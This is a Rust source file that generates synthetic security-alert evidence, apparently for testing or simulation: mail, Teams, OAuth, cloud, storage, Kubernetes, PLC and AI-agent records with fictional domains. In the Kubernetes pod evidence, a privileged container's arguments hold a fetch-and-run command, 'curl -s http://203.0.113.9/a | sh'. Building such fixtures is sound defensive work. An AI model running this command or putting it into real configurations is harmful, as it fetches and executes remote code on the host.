//! Evidence of mailboxes, directories, clouds and code: the kinds that are on no device.

use super::Scene;
use super::evidence::{Kind, ip};
use super::{props, text};
use crate::dice::Dice;
use crate::json::Json;
use std::time::Duration;

fn azure_id(dice: &mut Dice, scene: &Scene<'_>, resource: &str) -> String {
    format!("/subscriptions/{}/resourceGroups/rg-{}/providers/{resource}", dice.uuid(), scene.face.nt_domain.to_lowercase())
}

/// The kinds that live in mailboxes, directories and clouds.
pub(super) fn members(json: &mut Json, kind: Kind, scene: &Scene<'_>, dice: &mut Dice) {
    let face = scene.face;
    let person = &scene.person;
    match kind {
        Kind::Mailbox => {
            json.str("primaryAddress", &person.upn);
            json.str("displayName", &person.display);
            json.str("upn", &person.upn);
            json.object("userAccount", |json| props::write_account(json, face, person));
        }
        Kind::MailboxConfiguration => {
            json.str("configurationId", &format!("{}\\{}", person.upn, dice.between(10_i64.pow(17), 10_i64.pow(18))));
            json.str("configurationType", dice.pick(&["mailForwardingRule", "userInboxRule", "mailDelegation"]));
            json.str("displayName", "...");
            json.uuid("externalDirectoryObjectId", person.object_id);
            json.str("mailboxPrimaryAddress", &person.upn);
            json.str("upn", &person.upn);
        }
        Kind::AnalyzedMessage => {
            json.uuid("networkMessageId", dice.uuid());
            json.str("internetMessageId", &format!("<{}@mail.faktura-kontor.example>", dice.hex(24)));
            json.str("subject", dice.pick(text::mail_subjects(face.culture)));
            json.str("language", "");
            json.str("senderIp", &props::outside_address(dice));
            json.str("recipientEmailAddress", &person.upn);
            json.str("antiSpamDirection", "inbound");
            json.str("deliveryAction", dice.pick(&["deliveredAsSpam", "delivered", "blocked"]));
            json.str("deliveryLocation", dice.pick(&["inbox", "quarantine", "junkFolder"]));
            json.str("urn", &format!("urn:MailEntity:{}", dice.hex(32)));
            json.strings("threats", &["Phish", "Malware"]);
            json.strings("threatDetectionMethods", &["FileDetonation", "URLMaliciousReputation"]);
            let count = 1 + dice.below(4);
            let urls: Vec<String> = (0..count).map(|_| props::web_address(dice)).collect();
            json.strings("urls", &urls);
            json.num("urlCount", urls.len());
            json.num("attachmentsCount", dice.below(3));
            json.stamp("receivedDateTime", scene.created.minus(Duration::from_secs(dice.below(4000) as u64)));
            for sender in ["p1Sender", "p2Sender"] {
                json.object(sender, |json| {
                    json.str("emailAddress", "regnskab@faktura-kontor.example");
                    json.str("displayName", "Regnskab – Årsopgørelse");
                    json.str("domainName", "faktura-kontor.example");
                });
            }
        }
        Kind::MailCluster => {
            json.str("clusterBy", "Subject;P2SenderDomain;ContentType");
            json.str("clusterByValue", "Påmindelse;faktura-kontor.example;1");
            json.num("emailCount", dice.between(2, 900));
            let count = 3 + dice.below(12);
            let ids: Vec<String> = (0..count).map(|_| dice.uuid().to_string()).collect();
            json.strings("networkMessageIds", &ids);
            json.str("query", "(( (Subject:\"Påmindelse\") ) AND ( (P2SenderDomain:\"faktura-kontor.example\") ))");
            json.str("urn", &format!("urn:MailClusterEntity:{}", dice.hex(32)));
        }
        Kind::SubmissionMail => {
            json.uuid("networkMessageId", dice.uuid());
            json.str("recipient", &person.upn);
            json.str("sender", "regnskab@faktura-kontor.example");
            json.str("senderIp", &props::outside_address(dice));
            json.str("subject", dice.pick(text::mail_subjects(face.culture)));
            json.str("reportType", "Phish");
            json.uuid("submissionId", dice.uuid());
            json.stamp("submissionDateTime", scene.created.minus(Duration::from_secs(60)));
            json.str("submitter", &person.upn);
        }
        Kind::TeamsMessage => {
            json.uuid("messageId", dice.uuid());
            json.str("threadId", &format!("19:{}@unq.gbl.spaces", dice.hex(32)));
            json.str("threadType", "chat");
            json.str("senderFromAddress", "support@it-hjaelp.example");
            json.str("subject", "Haster: bekræft din adgang / hesabınızı doğrulayın");
            json.strings("recipients", &[&person.upn]);
            json.strings("suspiciousRecipients", &[] as &[&str]);
            json.str("deliveryAction", "delivered");
            json.str("deliveryLocation", "teams");
            json.str("messageDirection", "inbound");
            json.bool("isExternal", true);
            json.bool("isOwned", false);
            json.uuid("owningTenantId", dice.uuid());
            json.stamp("receivedDateTime", scene.created.minus(Duration::from_secs(300)));
            json.array("files", |_| ());
            let url = props::web_address(dice);
            json.array("urls", |json| {
                json.item(|json| {
                    json.str("@odata.type", "#microsoft.graph.security.urlEvidence");
                    json.str("url", &url);
                })
            });
        }
        Kind::CloudApplication => {
            json.num("appId", 20_892);
            json.str("displayName", "Microsoft SharePoint Online");
            json.num("instanceId", 0);
            json.str("instanceName", "Microsoft SharePoint Online");
            json.num("saasAppId", 20_892);
            json.object("stream", |json| json.null("name"));
        }
        Kind::OauthApplication => {
            json.uuid("appId", dice.uuid());
            json.str("displayName", dice.pick(&["Takvim Eşitleyici", "Kalendersynk Æ", "PDF Helper Pro", "eM Reader"]));
            json.uuid("objectId", dice.uuid());
            json.maybe("publisher", None);
        }
        Kind::ServicePrincipal => {
            json.uuid("appId", dice.uuid());
            json.uuid("appOwnerTenantId", dice.uuid());
            json.str("servicePrincipalName", "sync-worker");
            json.uuid("servicePrincipalObjectId", dice.uuid());
            json.str("servicePrincipalType", "application");
            json.uuid("tenantId", face.directory_id);
        }
        Kind::SecurityGroup => {
            json.str("displayName", dice.pick(&["Domain Admins", "Yöneticiler", "Løn og økonomi", "Backup Operators"]));
            json.uuid("securityGroupId", dice.uuid());
            json.uuid("activeDirectoryObjectGuid", dice.uuid());
            json.str("sid", "S-1-5-21-1004336348-1177238915-682003330-512");
            json.str("distinguishedName", &format!("CN=Domain Admins,CN=Users,DC={}", face.nt_domain.to_lowercase()));
            json.null("friendlyName");
        }
        Kind::ActiveDirectoryDomain => {
            json.str("activeDirectoryDomainName", &face.domain);
            json.array("trustedDomains", |_| ());
        }
        Kind::CloudLogonRequest => json.uuid("requestId", dice.uuid()),
        Kind::CloudLogonSession => {
            json.str("sessionId", &dice.uuid().to_string());
            json.object("account", |json| {
                json.str("@odata.type", "#microsoft.graph.security.userEvidence");
                json.object("userAccount", |json| props::write_account(json, face, person));
            });
            json.str("userAgent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Firefox/128.0");
            json.str("browser", "Firefox 128.0");
            json.str("operatingSystem", "Windows10");
            json.null("deviceName");
            json.null("protocol");
            json.stamp("startUtcDateTime", scene.created.minus(Duration::from_secs(dice.below(9000) as u64)));
            json.maybe_stamp("previousLogonDateTime", None);
        }
        Kind::HostLogonSession => {
            json.str("sessionId", &format!("0x{}", dice.hex(6)));
            json.object("account", |json| json.object("userAccount", |json| props::write_account(json, face, person)));
            json.object("host", |json| {
                json.str("mdeDeviceId", &scene.device.id);
                json.str("deviceDnsName", &scene.device.dns_name);
            });
            json.stamp("startUtcDateTime", scene.created.minus(Duration::from_secs(dice.below(9000) as u64)));
            json.maybe_stamp("endUtcDateTime", None);
        }
        _ => resource_members(json, kind, scene, dice),
    }
}

/// The kinds that are machines, stores and code somebody rents.
fn resource_members(json: &mut Json, kind: Kind, scene: &Scene<'_>, dice: &mut Dice) {
    let face = scene.face;
    match kind {
        Kind::AzureResource => {
            json.str("resourceId", &azure_id(dice, scene, "Microsoft.ContainerService/managedClusters/aks-prod"));
            json.str("resourceName", "aks-prod");
            json.str("resourceType", "Microsoft.ContainerService/managedClusters");
        }
        Kind::AmazonResource => {
            json.str("amazonAccountId", &dice.between(100_000_000_000, 999_999_999_999).to_string());
            json.str("amazonResourceId", &format!("arn:aws:ec2:eu-north-1::instance/i-{}", dice.hex(17)));
            json.str("resourceName", "build-runner");
            json.str("resourceType", "EC2 Instance");
        }
        Kind::GoogleCloudResource => {
            json.str("projectId", "prod-ınventory-4471");
            json.num("projectNumber", dice.between(100_000_000_000, 999_999_999_999));
            json.str("resourceName", "vm-7");
            json.str("resourceType", "GcpInstance");
            json.str("location", "europe-north1-a");
            json.str("locationType", "zonal");
            json.str("fullResourceName", "//compute.googleapis.com/projects/prod/zones/europe-north1-a/instances/vm-7");
        }
        Kind::Blob => {
            let account = format!("st{}", dice.hex(10));
            json.str("name", dice.pick(text::documents(face.culture)));
            json.str("url", &format!("https://{account}.blob.core.windows.net/eksport/udtræk.csv"));
            json.str("etag", &format!("0x8D{}", dice.hex(13).to_uppercase()));
            json.array("fileHashes", |json| {
                json.item(|json| {
                    json.str("algorithm", "md5");
                    json.str("value", &dice.hex(32));
                })
            });
            let store = azure_id(dice, scene, "Microsoft.Storage/storageAccounts/eksport");
            json.object("blobContainer", |json| {
                json.str("@odata.type", "#microsoft.graph.security.blobContainerEvidence");
                json.str("name", "eksport");
                json.str("url", &format!("https://{account}.blob.core.windows.net/eksport"));
                json.object("storageResource", |json| {
                    json.str("@odata.type", "#microsoft.graph.security.azureResourceEvidence");
                    json.str("resourceId", &store);
                });
            });
        }
        Kind::SasToken => {
            json.str("allowedIpAddresses", "0.0.0.0-255.255.255.255");
            json.strings("allowedResourceTypes", &["service", "container", "object"]);
            json.strings("allowedServices", &["blob"]);
            json.strings("permissions", &["read", "list"]);
            json.str("protocol", "https,http");
            json.str("signatureHash", &dice.hex(64));
            json.str("signedWith", "key1");
            json.stamp("startDateTime", scene.created.minus(Duration::from_secs(86_400)));
            json.stamp("expiryDateTime", scene.created.plus(Duration::from_secs(86_400 * 365)));
        }
        Kind::KubernetesPod => {
            let image = format!("registry.{}/batch/worker:{}", face.domain, dice.hex(7));
            let container_id = dice.hex(64);
            json.str("name", &format!("worker-{}-{}", dice.hex(9), dice.hex(5)));
            json.object("labels", |json| {
                json.str("app.kubernetes.io/name", "worker");
                json.str("ekip", "altyapı");
            });
            json.object("namespace", |json| {
                json.str("@odata.type", "#microsoft.graph.security.kubernetesNamespaceEvidence");
                json.str("name", "batch");
                json.object("cluster", |json| {
                    json.str("@odata.type", "#microsoft.graph.security.kubernetesClusterEvidence");
                    json.str("name", "aks-prod");
                    json.str("platform", "aks");
                    json.str("version", "1.31.2");
                });
            });
            json.array("containers", |json| {
                json.item(|json| {
                    json.str("@odata.type", "#microsoft.graph.security.containerEvidence");
                    json.str("name", "worker");
                    json.str("containerId", &container_id);
                    json.strings("command", &["/bin/sh"]);
                    json.strings("args", &["-c", "curl -s http://203.0.113.9/a | sh"]);
                    json.bool("isPrivileged", true);
                    json.object("image", |json| {
                        json.str("@odata.type", "#microsoft.graph.security.containerImageEvidence");
                        json.str("imageId", &image);
                    });
                })
            });
            json.array("initContainers", |_| ());
            json.array("ephemeralContainers", |_| ());
            ip(json, "podIp", &format!("10.244.{}.{}", dice.below(250), dice.below(250)));
            json.null("controller");
            json.null("serviceAccount");
        }
        Kind::ContainerImage => {
            json.str("imageId", &format!("registry.{}/batch/worker@sha256:{}", face.domain, dice.hex(64)));
            json.object("registry", |json| {
                json.str("@odata.type", "#microsoft.graph.security.containerRegistryEvidence");
                json.str("registry", &format!("registry.{}", face.domain));
            });
            json.null("digestImage");
        }
        Kind::IoTDevice => {
            json.str("deviceId", &dice.uuid().to_string());
            json.str("deviceName", "Doldurma hattı 2 / Påfyldning 2");
            json.str("deviceType", "PLC");
            json.str("deviceSubType", "S7-1500");
            json.str("manufacturer", "Siemens");
            json.str("model", "CPU 1515-2 PN");
            json.str("macAddress", "00:1b:1b:9e:12:7c");
            ip(json, "ipAddress", &format!("172.16.{}.{}", dice.below(250), dice.below(250)));
            json.str("importance", "high");
            json.strings("protocols", &["S7Comm", "PROFINET"]);
            json.str("purdueLayer", "BasicControl");
            json.bool("isAuthorized", true);
            json.bool("isProgramming", false);
            json.bool("isScanner", false);
            json.strings("owners", &[] as &[&str]);
        }
        Kind::GitHubRepo => {
            json.str("repoId", &dice.between(100_000, 900_000_000).to_string());
            json.str("login", "infra-as-code");
            json.str("owner", &face.nt_domain.to_lowercase());
            json.str("ownerType", "Organization");
            json.str("baseUrl", "https://github.com");
        }
        Kind::AiAgent => {
            json.str("agentId", &dice.uuid().to_string());
            json.str("agentName", dice.pick(&["İK Asistanı", "Kundeservice-hjælper", "Invoice Copilot"]));
            json.str("hostingPlatformType", "copilotStudio");
            json.str("instructions", "Answer only from the knowledge base. Never show data of another person.");
        }
        // A kind from the future: nobody can know its members.
        _ => {
            json.str("extensionId", &dice.hex(32));
            json.str("store", "unknown");
            json.array("grants", |json| {
                json.item(|json| {
                    json.str("scope", "tabs");
                    json.num("weight", "1.50");
                })
            });
        }
    }
}
